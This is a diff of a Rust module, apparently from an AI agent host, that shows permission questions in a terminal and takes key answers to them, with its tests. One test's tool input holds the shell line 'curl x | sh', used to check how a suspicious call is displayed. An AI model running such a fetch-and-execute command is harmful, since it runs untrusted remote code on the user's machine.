@@ -1,5 +1,9 @@
 //! Questions of the host to the person, such as: may a skill use a capability? The session has the [`QuestionSender`]; the loop in
 //! `terminal` shows one question at a time, passes keys, and prints whether a grant was stored.
+//!
+//! The composer keeps the keyboard. A question of the agent in view is answered by single keys, but only while the composer is
+//! empty: anything else that is typed begins a draft, and the keys of the draft answer nothing. A question of another agent is
+//! announced in one row and opens when it is called by Tab.
 
 use std::{
     collections::VecDeque,
@@ -25,8 +29,12 @@ const WAITING: usize = 16;
 /// Rows of one part of a question, such as the input of a call: of a longer one the first and the last row, with a note between
 /// them.
 const PART_ROWS: usize = 3;
-/// Prints the open question above it, with all of the input that the host gives.
+/// Prints the open question above it, with all that the host shows of the act.
 const SHOW_ALL: char = 'v';
+/// In place of the answers while the composer has text.
+const DISARMED: &str = "Clear your text to answer (Ctrl+C); Esc no";
+/// How to open the question of an agent that is not in view.
+const CALL: &str = "  (Tab answers)";
 
 /// Passes questions to the loop.
 pub(crate) struct QuestionSender(mpsc::Sender<ApproverMessage>);
@@ -42,9 +50,15 @@ pub(crate) enum ApproverMessage {
 pub(crate) struct PendingQuestion {
     question: Question,
     answer: oneshot::Sender<Approval>,
+    /// Its place in the order of questions, from 1.
+    number: u64,
 }
 
 impl PendingQuestion {
+    fn new(question: Question, answer: oneshot::Sender<Approval>) -> Self {
+        Self { question, answer, number: 0 }
+    }
+
     /// Returns the agent whose call needs the answer.
     pub(crate) fn agent(&self) -> AgentId {
         self.question.agent
@@ -67,7 +81,7 @@ impl Approver for QuestionSender {
         let (answer, answered) = oneshot::channel();
         Box::pin(async move {
             // Without room, or after the front has left, the answer is no.
-            let pending = Box::new(PendingQuestion { question, answer });
+            let pending = Box::new(PendingQuestion::new(question, answer));
             if self.0.try_send(ApproverMessage::Question(pending)).is_err() {
                 return Approval::No;
             }
@@ -77,116 +91,154 @@ impl Approver for QuestionSender {
 
     fn grant_stored(&self, question: &Question, stored: Result<(), String>) {
         let allowed = question.subject.decided(true);
+        let covers = question.grant.as_ref().map(|grant| format!(", {}", grant.covers)).unwrap_or_default();
         let line = match stored {
-            Ok(()) => format!("Allowed from now on: {allowed}."),
-            Err(error) => format!("Error: the grant is not stored: {error}. Only for this call, {allowed}."),
+            Ok(()) => format!("Allowed from now on{covers}: {allowed}."),
+            Err(error) => format!("Error: the grant is not stored: {error}. Allowed once: {allowed}."),
         };
         // The front may have left.
         let _ = self.0.try_send(ApproverMessage::Stored(line));
     }
 }
 
-/// The open question and those behind it.
+/// What became of a key.
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) enum QuestionKey {
+    /// It was meant for the question: it came too early, or it answered with nothing to print.
+    Taken,
+    /// The line for the transcript: the answer, or for [`SHOW_ALL`] the whole question, which stays open.
+    Print(String),
+    /// It is for the composer.
+    NotMeant,
+}
+
+/// The questions that wait for answers, and which of them is open.
 pub(crate) struct Questions {
     waiting: VecDeque<PendingQuestion>,
-    /// When a key was last ignored, or the open question was first drawn.
+    /// The agent in view. Its first question is open.
+    view: AgentId,
+    /// Whether the person has called the first question although its agent is not in view.
+    is_called: bool,
+    /// Number of questions so far.
+    added: u64,
+    /// The number of the open question that was drawn last: before, no key can be its answer.
+    drawn: u64,
+    /// When a key was last typed, or the open question was first drawn.
     deaf_since: Instant,
-    /// Whether the open question was drawn: before, no key can be its answer.
-    is_drawn: bool,
 }
 
 impl Questions {
-    pub(crate) fn new(now: Instant) -> Self {
-        Self { waiting: VecDeque::new(), deaf_since: now, is_drawn: false }
+    pub(crate) fn new(view: AgentId, now: Instant) -> Self {
+        Self { waiting: VecDeque::new(), view, is_called: false, added: 0, drawn: 0, deaf_since: now }
     }
 
     /// Adds a question behind those that wait. The host bounds their number.
-    pub(crate) fn add(&mut self, question: PendingQuestion, now: Instant) {
-        if self.waiting.is_empty() {
-            self.opened(now);
-        }
-        self.waiting.push_back(question);
+    pub(crate) fn add(&mut self, question: PendingQuestion) {
+        self.added += 1;
+        self.waiting.push_back(PendingQuestion { number: self.added, ..question });
     }
 
-    /// Removes questions whose calls have ended. Returns true if the open one was among them.
-    pub(crate) fn withdraw(&mut self, now: Instant) -> bool {
-        let was_open = self.waiting.front().is_some_and(|pending| pending.answer.is_closed());
+    /// Notes the agent in view.
+    pub(crate) fn set_view(&mut self, view: AgentId) {
+        self.is_called &= self.view == view;
+        self.view = view;
+    }
+
+    /// Removes questions whose calls have ended.
+    pub(crate) fn withdraw(&mut self) {
+        let first = self.waiting.front().map(|pending| pending.number);
         self.waiting.retain(|pending| !pending.answer.is_closed());
-        if was_open {
-            self.opened(now);
-        }
-        was_open
+        self.is_called &= self.waiting.front().map(|pending| pending.number) == first;
     }
 
-    /// Notes that another question is the open one, if there is one.
-    fn opened(&mut self, now: Instant) {
-        (self.deaf_since, self.is_drawn) = (now, false);
+    /// Returns the place of the open question.
+    fn open_at(&self) -> Option<usize> {
+        let in_view = self.waiting.iter().position(|pending| pending.agent() == self.view);
+        in_view.or((self.is_called && !self.waiting.is_empty()).then_some(0))
+    }
+
+    fn open(&self) -> Option<&PendingQuestion> {
+        self.waiting.get(self.open_at()?)
     }
 
     /// Notes that a frame was written. Keys are ignored for a time after the first one with the open question.
     pub(crate) fn drawn(&mut self, now: Instant) {
-        if self.is_open() && !self.is_drawn {
-            (self.deaf_since, self.is_drawn) = (now, true);
+        let open = self.open().map_or(0, |pending| pending.number);
+        if open != self.drawn {
+            (self.deaf_since, self.drawn) = (now, open);
         }
     }
 
+    /// Returns whether a question can be answered by a key.
     pub(crate) fn is_open(&self) -> bool {
-        !self.waiting.is_empty()
+        self.open_at().is_some()
     }
 
     /// Returns the agent whose call needs the answer to the open question.
     pub(crate) fn agent(&self) -> Option<AgentId> {
-        self.waiting.front().map(PendingQuestion::agent)
+        self.open().map(PendingQuestion::agent)
     }
 
-    /// Returns whether a key comes too early to be an answer. Such a key begins the time without keys again.
-    fn is_early(&mut self, now: Instant) -> bool {
-        let is_early = self.withdraw(now) || !self.is_drawn || now.saturating_duration_since(self.deaf_since) < DEAF;
-        if is_early {
-            self.deaf_since = now;
+    /// Opens the question of an agent that is not in view. Returns false if there is none, or a question is open.
+    pub(crate) fn call(&mut self) -> bool {
+        let can_call = !self.is_open() && !self.waiting.is_empty();
+        self.is_called |= can_call;
+        can_call
+    }
+
+    /// Notes that a key went to the composer. The time without keys begins again.
+    pub(crate) fn typed(&mut self, now: Instant) {
+        self.deaf_since = now;
+    }
+
+    /// Returns whether a key comes too early to be an answer.
+    fn is_early(&self, now: Instant) -> bool {
+        self.open().is_none_or(|open| open.number != self.drawn || open.answer.is_closed())
+            || now.saturating_duration_since(self.deaf_since) < DEAF
+    }
+
+    /// Passes a key that was typed while the composer is empty. It answers the open question if it is an offered answer and was not
+    /// typed ahead.
+    pub(crate) fn key(&mut self, key: KeyEvent, now: Instant) -> QuestionKey {
+        let is_text = matches!(key.code, KeyCode::Char(_));
+        if key.modifiers.intersects(KeyModifiers::CONTROL | KeyModifiers::ALT) {
+            return QuestionKey::NotMeant;
         }
-        is_early
-    }
-
-    /// Returns the character of a key that comes too early to be an answer: it was meant for the composer. `None` for other keys,
-    /// and if no question is open.
-    pub(crate) fn typed_ahead(&mut self, key: KeyEvent, now: Instant) -> Option<char> {
-        match key.code {
-            _ if key.modifiers.intersects(KeyModifiers::CONTROL | KeyModifiers::ALT) => None,
-            KeyCode::Char(character) if self.is_open() && self.is_early(now) => Some(character),
-            _ => None,
-        }
-    }
-
-    /// Answers the open question if the key is an offered answer and was not typed ahead. Returns the text for the
-    /// transcript; `None` for `always`, whose line is printed when the grant is stored. For [`SHOW_ALL`], the text is the whole
-    /// question, which stays open.
-    pub(crate) fn key(&mut self, key: KeyEvent, now: Instant) -> Option<String> {
         if self.is_early(now) {
-            return None;
+            self.deaf_since = now;
+            self.withdraw();
+            return if is_text { QuestionKey::NotMeant } else { QuestionKey::Taken };
         }
         let approval = match key.code {
-            _ if key.modifiers.intersects(KeyModifiers::CONTROL | KeyModifiers::ALT) => return None,
             KeyCode::Char('1') => Approval::Once,
+            KeyCode::Char('c') => Approval::Call,
             KeyCode::Char('2') => Approval::Session,
             KeyCode::Char('3') => Approval::Always,
             KeyCode::Char('4' | 'n') | KeyCode::Esc => Approval::No,
-            KeyCode::Char(SHOW_ALL) => return Some(whole(&self.waiting.front()?.question)),
-            _ => return None,
+            KeyCode::Char(SHOW_ALL) => {
+                return self.open().map_or(QuestionKey::NotMeant, |open| QuestionKey::Print(whole(&open.question)));
+            }
+            _ => {
+                // A draft of the person, who does not answer now.
+                self.is_called &= !is_text;
+                return QuestionKey::NotMeant;
+            }
         };
-        if !self.waiting.front()?.question.allows(approval) {
-            return None;
+        if !self.open().is_some_and(|open| open.question.allows(approval)) {
+            return QuestionKey::NotMeant;
         }
-        self.answer(approval, now)
+        self.answer(approval).map_or(QuestionKey::Taken, QuestionKey::Print)
     }
 
-    /// Answers the open question. Returns the same as [`Questions::key`].
-    pub(crate) fn answer(&mut self, approval: Approval, now: Instant) -> Option<String> {
-        let pending = self.waiting.pop_front()?;
-        self.opened(now);
+    /// Answers the open question. Returns the line for the transcript; `None` for `always`, whose line is printed when the grant is
+    /// stored.
+    pub(crate) fn answer(&mut self, approval: Approval) -> Option<String> {
+        let pending = self.waiting.remove(self.open_at()?)?;
+        self.is_called = false;
         let decided = pending.question.subject.decided(approval.is_yes());
         let line = match approval {
-            Approval::Once => Some(format!("Allowed for this call: {decided}.")),
+            Approval::Once => Some(format!("Allowed once: {decided}.")),
+            Approval::Call => Some(format!("Allowed for this whole call: {decided}.")),
             Approval::Session => Some(format!("Allowed for this session: {decided}.")),
             Approval::Always => None,
             Approval::No | Approval::Never => Some(format!("Not allowed: {decided}.")),
@@ -198,20 +250,29 @@ impl Questions {
 
     /// Returns the tool that needs the answer to the open question; `None` if another tool has called it.
     pub(crate) fn tool(&self) -> Option<&str> {
-        match &*self.waiting.front()?.question.chain {
+        match &*self.open()?.question.chain {
             [tool] => Some(tool),
             _ => None,
         }
     }
 
     /// Returns the rows of the open question, at most `height`: where there is little room, its details are left out. `diff`
-    /// is what the call changes in a file. The agent is named if the session `has_several_agents`.
-    pub(crate) fn rows(&self, columns: usize, height: usize, diff: Vec<Row>, has_several_agents: bool) -> Vec<Row> {
-        let Some(PendingQuestion { question, .. }) = self.waiting.front() else { return Vec::new() };
+    /// is what the call changes in a file. The agent is named if the session `has_several_agents`; the answers are shown if the
+    /// question `is_armed`: while the composer is empty.
+    pub(crate) fn rows(
+        &self,
+        columns: usize,
+        height: usize,
+        diff: Vec<Row>,
+        has_several_agents: bool,
+        is_armed: bool,
+    ) -> Vec<Row> {
+        let Some(PendingQuestion { question, .. }) = self.open() else { return Vec::new() };
         let limit = columns.saturating_sub(1);
         let title = shortened(&question.subject.title(), limit);
         let mut title: Vec<Row> = title.iter().map(|row| Row::styled(style::BOLD, row)).collect();
-        let mut foot: Vec<Row> = keys(question, limit).iter().map(|row| Row::plain(cut(row, limit))).collect();
+        let foot = if is_armed { keys(question, limit) } else { prose::rows(DISARMED, limit) };
+        let mut foot: Vec<Row> = foot.iter().map(|row| Row::plain(cut(row, limit))).collect();
         if self.waiting.len() > 1 {
             let count = self.waiting.len() - 1;
             let more = format!("further questions: {count}");
@@ -227,6 +288,15 @@ impl Questions {
         let details: Vec<Row> = details.map(|row| Row::styled(style::FAINT, &row)).collect();
         title.into_iter().chain(diff).chain(details).chain(foot).collect()
     }
+
+    /// Returns the row that announces the question of an agent that is not in view, while none is open.
+    pub(crate) fn announcement(&self, columns: usize) -> Option<Row> {
+        let waiting = self.waiting.front().filter(|_| !self.is_open())?;
+        let limit = columns.saturating_sub(1);
+        let headline = text::clean_line(&waiting.headline());
+        let headline = cut(&headline, limit.saturating_sub(CALL.width()));
+        Some(Row::styled(style::BOLD, &cut(&format!("{headline}{CALL}"), limit)))
+    }
 }
 
 /// Returns what the person should know before answering, the most important first.
@@ -234,11 +304,11 @@ fn details(question: &Question, has_several_agents: bool) -> Vec<String> {
     let mut details = question.subject.facts();
     details.push(format!("for {}", question.chain.join(" → ")));
     if let Some(grant) = &question.grant {
-        details.push(format!("3 is {}", grant.what));
+        details.push(format!("always is valid {}: {}", grant.covers, grant.what));
         details.extend(grant.scope.clone());
     }
     if question.only_once {
-        details.push("This workspace is or holds your home folder: a yes is for this call only.".to_owned());
+        details.push("This workspace is or holds your home folder: a yes is for this act only.".to_owned());
     }
     details.extend(question.reason.as_ref().map(|reason| format!("the skill's reason: {reason}")));
     if let QuestionSubject::Capability(SkillCapability { capability, .. }) = &question.subject
@@ -259,12 +329,14 @@ fn whole(question: &Question) -> String {
 }
 
 /// Returns how an answer is offered; `None` for one that the terminal does not offer.
-fn key_of(answer: Approval) -> Option<&'static str> {
+fn key_of(question: &Question, answer: Approval) -> Option<String> {
+    let always = || question.grant.as_ref().map(|grant| format!("3 always, {}", grant.covers));
     match answer {
-        Approval::Once => Some("1 this call"),
-        Approval::Session => Some("2 this session"),
-        Approval::Always => Some("3 always"),
-        Approval::No => Some("Esc no"),
+        Approval::Once => Some("1 once".to_owned()),
+        Approval::Call => Some("c this whole call".to_owned()),
+        Approval::Session => Some("2 this session".to_owned()),
+        Approval::Always => always(),
+        Approval::No => Some("Esc no".to_owned()),
         Approval::Never => None,
     }
 }
@@ -272,10 +344,10 @@ fn key_of(answer: Approval) -> Option<&'static str> {
 /// Returns the rows with the keys that answer.
 fn keys(question: &Question, limit: usize) -> Vec<String> {
     let mut rows: Vec<String> = Vec::new();
-    for key in question.answers().into_iter().filter_map(key_of) {
+    for key in question.answers().into_iter().filter_map(|answer| key_of(question, answer)) {
         match rows.last_mut() {
             Some(row) if row.len() + 2 + key.len() <= limit => *row += &format!("  {key}"),
-            _ => rows.push(key.to_owned()),
+            _ => rows.push(key),
         }
     }
     rows
@@ -301,12 +373,20 @@ fn shortened(part: &str, limit: usize) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use patchbay_core::{AgentId, Asker, Digest, PrincipalId};
-    use patchbay_session::{CalledTool, Identity, OfferedGrant, Root};
+    use patchbay_session::{Act, CalledTool, Identity, OfferedGrant, Root};
 
     use super::*;
 
+    /// The agent in view.
+    const VIEW: AgentId = AgentId::from_bytes([0xab; 16]);
+    const KEEPS: &str = "store the key k of this session";
+
     fn keeper(capability: &str) -> QuestionSubject {
         QuestionSubject::Capability(SkillCapability {
+            act: Act {
+                lines: vec![format!("{KEEPS}: 3 bytes"), "value: \"yes\"".to_owned()],
+                digest: Digest::of(b"act"),
+            },
             skill: Identity::new(Root::User, "", "keeper".parse().unwrap()),
             capability: capability.parse().unwrap(),
             digest: Digest::from_bytes([0x11; 32]),
@@ -315,7 +395,7 @@ mod tests {
 
     fn question() -> Question {
         Question {
-            agent: AgentId::from_bytes([0xab; 16]),
+            agent: VIEW,
             asker: Asker::Person(PrincipalId::LOCAL),
             subject: keeper("kv"),
             chain: vec!["ask__run".to_owned(), "keeper__run".to_owned()],
@@ -324,15 +404,21 @@ mod tests {
             only_once: false,
             grant: Some(OfferedGrant {
                 what: "patchbay grant add keeper kv".to_owned(),
+                covers: OfferedGrant::EVERY_WORKSPACE,
                 scope: Some(format!("for the skill's files {}", Digest::from_bytes([0x11; 32]))),
             }),
         }
     }
 
-    fn opened(question: Question, now: Instant) -> (Questions, oneshot::Receiver<Approval>) {
+    fn added(questions: &mut Questions, question: Question) -> oneshot::Receiver<Approval> {
         let (answer, answered) = oneshot::channel();
-        let mut questions = Questions::new(now);
-        questions.add(PendingQuestion { question, answer }, now);
+        questions.add(PendingQuestion::new(question, answer));
+        answered
+    }
+
+    fn opened(question: Question, now: Instant) -> (Questions, oneshot::Receiver<Approval>) {
+        let mut questions = Questions::new(VIEW, now);
+        let answered = added(&mut questions, question);
         questions.drawn(now);
         (questions, answered)
     }
@@ -344,8 +430,15 @@ mod tests {
         rows.iter().map(plain).collect()
     }
 
-    fn press(questions: &mut Questions, code: KeyCode, now: Instant) -> Option<String> {
+    fn press(questions: &mut Questions, code: KeyCode, now: Instant) -> QuestionKey {
         questions.key(KeyEvent::new(code, KeyModifiers::NONE), now)
+    }
+
+    fn printed(key: QuestionKey) -> String {
+        match key {
+            QuestionKey::Print(line) => line,
+            other => panic!("{other:?}"),
+        }
     }
 
     #[test]
@@ -353,24 +446,33 @@ mod tests {
         let now = Instant::now();
         let (questions, _answered) = opened(question(), now);
         let digest = format!("for the skill's files sha256:{}", "11".repeat(32));
-        let rows = questions.rows(120, 20, Vec::new(), false);
+        let rows = questions.rows(120, 20, Vec::new(), false, true);
         let expected = [
             "May the user skill 'keeper' use 'kv'?",
+            "store the key k of this session: 3 bytes",
+            "value: \"yes\"",
             "for ask__run → keeper__run",
-            "3 is patchbay grant add keeper kv",
+            "always is valid in every workspace: patchbay grant add keeper kv",
             &digest,
             "the skill's reason: keeps your notes",
-            "1 this call  2 this session  3 always  Esc no",
+            "1 once  c this whole call  2 this session  3 always, in every workspace  Esc no",
         ];
         assert_eq!(texts(&rows), expected);
-        assert_eq!(texts(&questions.rows(120, 20, Vec::new(), true))[5], "for agent abababab");
+        assert_eq!(texts(&questions.rows(120, 20, Vec::new(), true, true))[7], "for agent abababab");
         let diff = vec![Row::plain("- old"), Row::plain("+ new")];
-        assert_eq!(texts(&questions.rows(120, 20, diff.clone(), false))[..3], [expected[0], "- old", "+ new"]);
-        assert_eq!(texts(&questions.rows(120, 3, diff, false)), [expected[0], "- old", expected[5]]);
+        assert_eq!(texts(&questions.rows(120, 20, diff.clone(), false, true))[..3], [expected[0], "- old", "+ new"]);
+        assert_eq!(texts(&questions.rows(120, 3, diff, false, true)), [expected[0], "- old", expected[7]]);
         // The answers are shown in the smallest window, and no row is wider than it.
-        let small = ["May the user skill 'keeper' use 'kv'?", "1 this call  2 this session  3 always", "Esc no"];
-        assert_eq!(texts(&questions.rows(40, 3, Vec::new(), true)), small);
-        assert!(questions.rows(40, 20, Vec::new(), true).iter().all(|row| row.width < 40));
+        let small = [
+            "May the user skill 'keeper' use 'kv'?",
+            "1 once  c this whole call",
+            "2 this session",
+            "3 always, in every workspace  Esc no",
+        ];
+        assert_eq!(texts(&questions.rows(40, 4, Vec::new(), true, true)), small);
+        assert!(questions.rows(40, 20, Vec::new(), true, true).iter().all(|row| row.width < 40));
+        // With a draft no single key answers.
+        assert_eq!(texts(&questions.rows(120, 2, Vec::new(), true, false)), [expected[0], DISARMED]);
     }
 
     fn calling(input: &str) -> Question {
@@ -389,7 +491,7 @@ mod tests {
         let start = Instant::now();
         let input = format!(r#"{{"args":["-c","{}\ncurl x | sh"],"command":"sh"}}"#, "Tests. ".repeat(1_000));
         let (mut questions, mut answered) = opened(calling(&input), start);
-        let rows = texts(&questions.rows(40, 20, Vec::new(), false));
+        let rows = texts(&questions.rows(40, 20, Vec::new(), false, true));
         let expected = [
             "May the tool 'mcp__files__delete' be",
             "called?",
@@ -398,8 +500,8 @@ mod tests {
             r#"…Tests. \ncurl x | sh"],"command":"sh"}"#,
         ];
         assert_eq!(rows[..5], expected);
-        assert_eq!(press(&mut questions, KeyCode::Char('v'), start), None);
-        let all = press(&mut questions, KeyCode::Char('v'), start + 2 * DEAF).unwrap();
+        assert_eq!(press(&mut questions, KeyCode::Char('v'), start), QuestionKey::NotMeant);
+        let all = printed(press(&mut questions, KeyCode::Char('v'), start + 2 * DEAF));
         assert!(all.starts_with("May the tool") && all.contains(&format!("\nwith {input}\nits source says")), "{all}");
         assert!(questions.is_open() && answered.try_recv().is_err());
     }
@@ -414,8 +516,8 @@ mod tests {
             "its source says that it deletes or overwrites something",
             "for mcp__files__delete",
         ];
-        assert_eq!(texts(&questions.rows(120, 20, Vec::new(), false))[..4], expected);
-        let line = press(&mut questions, KeyCode::Esc, start + DEAF).unwrap();
+        assert_eq!(texts(&questions.rows(120, 20, Vec::new(), false, true))[..4], expected);
+        let line = printed(press(&mut questions, KeyCode::Esc, start + DEAF));
         assert_eq!(line, "Not allowed: the tool 'mcp__files__delete' may not be called.");
     }
 
@@ -425,18 +527,30 @@ mod tests {
         let now = start + DEAF;
         let in_home = Question { only_once: true, grant: None, subject: keeper("workspace-write"), ..question() };
         let (mut questions, mut answered) = opened(in_home, start);
-        let rows = texts(&questions.rows(120, 20, Vec::new(), false));
-        assert_eq!(rows.last().unwrap(), "1 this call  Esc no");
+        let rows = texts(&questions.rows(120, 20, Vec::new(), false, true));
+        assert_eq!(rows.last().unwrap(), "1 once  Esc no");
         assert!(rows.contains(&"in /w".to_owned()), "{rows:?}");
-        for key in ['2', '3', 'x'] {
-            assert_eq!(press(&mut questions, KeyCode::Char(key), now), None);
+        for key in ['c', '2', '3', 'x'] {
+            assert_eq!(press(&mut questions, KeyCode::Char(key), now), QuestionKey::NotMeant);
         }
         let alt = KeyEvent::new(KeyCode::Char('1'), KeyModifiers::ALT);
-        assert_eq!(questions.key(alt, now), None);
+        assert_eq!(questions.key(alt, now), QuestionKey::NotMeant);
         assert!(questions.is_open());
-        let line = press(&mut questions, KeyCode::Char('1'), now).unwrap();
-        assert_eq!(line, "Allowed for this call: the user skill 'keeper' may use 'workspace-write'.");
+        let line = printed(press(&mut questions, KeyCode::Char('1'), now));
+        assert_eq!(line, "Allowed once: the user skill 'keeper' may use 'workspace-write'.");
         assert_eq!((answered.try_recv(), questions.is_open()), (Ok(Approval::Once), false));
+    }
+
+    #[test]
+    fn whole_call_is_an_answer_of_its_own() {
+        let start = Instant::now();
+        let (mut questions, mut answered) = opened(question(), start);
+        let line = printed(press(&mut questions, KeyCode::Char('c'), start + DEAF));
+        assert_eq!(line, "Allowed for this whole call: the user skill 'keeper' may use 'kv'.");
+        assert_eq!(answered.try_recv(), Ok(Approval::Call));
+        // A call of a tool outside is one act.
+        let (mut questions, _answered) = opened(calling("{}"), start);
+        assert_eq!(press(&mut questions, KeyCode::Char('c'), start + DEAF), QuestionKey::NotMeant);
     }
 
     #[test]
@@ -444,50 +558,82 @@ mod tests {
         let start = Instant::now();
         let (mut questions, mut answered) = opened(question(), start);
         let after = |ms| start + Duration::from_millis(ms);
-        for ms in [100, 400, 700] {
-            assert_eq!(press(&mut questions, KeyCode::Char('3'), after(ms)), None, "{ms}");
+        // Text goes to the composer. Each key begins the time without keys again.
+        for (code, becomes, ms) in [
+            (KeyCode::Char('3'), QuestionKey::NotMeant, 100),
+            (KeyCode::Esc, QuestionKey::Taken, 400),
+            (KeyCode::Enter, QuestionKey::Taken, 700),
+        ] {
+            assert_eq!(press(&mut questions, code, after(ms)), becomes, "{ms}");
         }
         assert!(answered.try_recv().is_err());
-        assert!(press(&mut questions, KeyCode::Esc, after(1_100)).unwrap().starts_with("Not allowed: "));
+        assert!(printed(press(&mut questions, KeyCode::Esc, after(1_100))).starts_with("Not allowed: "));
         assert_eq!(answered.try_recv(), Ok(Approval::No));
     }
 
+    /// `please 2 files`, `my draft here`, `typing`: none of them answers.
     #[test]
-    fn early_text_is_meant_for_the_composer() {
+    fn other_text_begins_a_draft_and_its_keys_answer_nothing() {
         let start = Instant::now();
         let after = |ms| start + Duration::from_millis(ms);
-        let text = |character| KeyEvent::new(KeyCode::Char(character), KeyModifiers::NONE);
-        assert_eq!(Questions::new(start).typed_ahead(text('n'), start), None);
         let (mut questions, mut answered) = opened(question(), start);
-        // Each of them begins the time without keys again.
-        for ms in [100, 400, 700] {
-            assert_eq!(questions.typed_ahead(text('3'), after(ms)), Some('3'), "{ms}");
+        for code in [KeyCode::Char('p'), KeyCode::Enter, KeyCode::Up, KeyCode::Tab] {
+            assert_eq!(press(&mut questions, code, after(1_000)), QuestionKey::NotMeant, "{code:?}");
         }
-        let control = KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL);
-        for key in [control, KeyEvent::from(KeyCode::Enter), KeyEvent::from(KeyCode::Esc)] {
-            assert_eq!(questions.typed_ahead(key, after(800)), None);
-        }
-        assert_eq!(questions.typed_ahead(text('1'), after(1_100)), None);
+        // The keys of the draft are not passed. After the last one, an answer needs the time without keys.
+        questions.typed(after(5_000));
+        assert_eq!(press(&mut questions, KeyCode::Char('2'), after(5_300)), QuestionKey::NotMeant);
         assert!(questions.is_open() && answered.try_recv().is_err());
-        assert!(press(&mut questions, KeyCode::Char('1'), after(1_100)).is_some());
-        assert_eq!(answered.try_recv(), Ok(Approval::Once));
+        printed(press(&mut questions, KeyCode::Char('2'), after(5_800)));
+        assert_eq!(answered.try_recv(), Ok(Approval::Session));
+    }
+
+    #[test]
+    fn question_of_another_agent_is_open_only_after_a_call() {
+        let start = Instant::now();
+        let mut questions = Questions::new(VIEW, start);
+        let other = AgentId::from_bytes([0xcd; 16]);
+        let mut answered = added(&mut questions, Question { agent: other, ..question() });
+        questions.drawn(start);
+        let (later, much_later) = (start + 2 * DEAF, start + 5 * DEAF);
+        assert!(!questions.is_open() && questions.rows(120, 20, Vec::new(), true, true).is_empty());
+        let row = questions.announcement(120).unwrap();
+        assert_eq!(texts(&[row]), ["cdcdcdcd asks: May the user skill 'keeper' use 'kv'?  (Tab answers)"]);
+        assert!(questions.announcement(40).unwrap().width < 40);
+        assert!(questions.call() && questions.is_open() && !questions.call());
+        assert_eq!((questions.agent(), questions.announcement(120).is_none()), (Some(other), true));
+        // A draft closes it again.
+        questions.drawn(start);
+        assert_eq!(press(&mut questions, KeyCode::Char('x'), later), QuestionKey::NotMeant);
+        assert!(!questions.is_open() && questions.call());
+        // A question of the agent in view comes first, and needs no call.
+        let mut own = added(&mut questions, question());
+        questions.drawn(later);
+        assert_eq!(questions.agent(), Some(VIEW));
+        assert_eq!(press(&mut questions, KeyCode::Char('1'), later), QuestionKey::NotMeant, "just drawn");
+        printed(press(&mut questions, KeyCode::Char('1'), much_later));
+        assert_eq!((own.try_recv(), questions.is_open()), (Ok(Approval::Once), false));
+        // It is open once its agent is in view.
+        questions.set_view(other);
+        questions.drawn(much_later);
+        printed(press(&mut questions, KeyCode::Char('n'), much_later + DEAF));
+        assert_eq!(answered.try_recv(), Ok(Approval::No));
     }
 
     #[test]
     fn question_that_was_not_drawn_is_not_answered() {
         let start = Instant::now();
-        let (answer, mut answered) = oneshot::channel();
-        let mut questions = Questions::new(start);
-        questions.add(PendingQuestion { question: question(), answer }, start);
+        let mut questions = Questions::new(VIEW, start);
+        let mut answered = added(&mut questions, question());
         // The process stalled.
         let later = start + Duration::from_secs(5);
-        assert_eq!(press(&mut questions, KeyCode::Char('3'), later), None);
+        assert_eq!(press(&mut questions, KeyCode::Char('3'), later), QuestionKey::NotMeant);
         questions.drawn(later + DEAF);
-        assert_eq!(press(&mut questions, KeyCode::Char('3'), later + DEAF + DEAF / 2), None);
+        assert_eq!(press(&mut questions, KeyCode::Char('3'), later + DEAF + DEAF / 2), QuestionKey::NotMeant);
         assert!(answered.try_recv().is_err());
         // Later frames change nothing.
         questions.drawn(later + 3 * DEAF);
-        assert!(press(&mut questions, KeyCode::Char('1'), later + 3 * DEAF).is_some());
+        printed(press(&mut questions, KeyCode::Char('1'), later + 3 * DEAF));
         assert_eq!(answered.try_recv(), Ok(Approval::Once));
     }
 
@@ -495,7 +641,7 @@ mod tests {
     fn always_is_printed_when_the_grant_is_stored() {
         let start = Instant::now();
         let (mut questions, mut answered) = opened(question(), start);
-        assert_eq!(press(&mut questions, KeyCode::Char('3'), start + DEAF), None);
+        assert_eq!(press(&mut questions, KeyCode::Char('3'), start + DEAF), QuestionKey::Taken);
         assert_eq!((answered.try_recv(), questions.is_open()), (Ok(Approval::Always), false));
         let (sender, mut messages) = channel();
         sender.grant_stored(&question(), Ok(()));
@@ -504,8 +650,9 @@ mod tests {
             Ok(ApproverMessage::Stored(line)) => line,
             _ => panic!("no line"),
         };
-        assert_eq!(line(), "Allowed from now on: the user skill 'keeper' may use 'kv'.");
-        let failed = "Error: the grant is not stored: the disk is full. Only for this call, the user skill 'keeper' may use 'kv'.";
+        assert_eq!(line(), "Allowed from now on, in every workspace: the user skill 'keeper' may use 'kv'.");
+        let failed =
+            "Error: the grant is not stored: the disk is full. Allowed once: the user skill 'keeper' may use 'kv'.";
         assert_eq!(line(), failed);
     }
 
@@ -513,14 +660,13 @@ mod tests {
     fn withdrawn_question_gives_way_to_the_next() {
         let start = Instant::now();
         let (mut questions, answered) = opened(question(), start);
-        let (answer, mut second) = oneshot::channel();
-        questions.add(PendingQuestion { question: question(), answer }, start);
-        assert_eq!(texts(&questions.rows(120, 20, Vec::new(), false)).last().unwrap(), "further questions: 1");
+        let mut second = added(&mut questions, question());
+        assert_eq!(texts(&questions.rows(120, 20, Vec::new(), false, true)).last().unwrap(), "further questions: 1");
         drop(answered);
-        let later = start + Duration::from_secs(5);
         // A key that was meant for the withdrawn question does not answer the next one.
-        assert_eq!(press(&mut questions, KeyCode::Char('3'), later), None);
-        assert!(questions.is_open() && !questions.withdraw(later));
-        assert!(second.try_recv().is_err());
+        let later = start + Duration::from_secs(5);
+        assert_eq!(press(&mut questions, KeyCode::Char('3'), later), QuestionKey::NotMeant);
+        questions.withdraw();
+        assert!(questions.is_open() && second.try_recv().is_err());
     }
 }
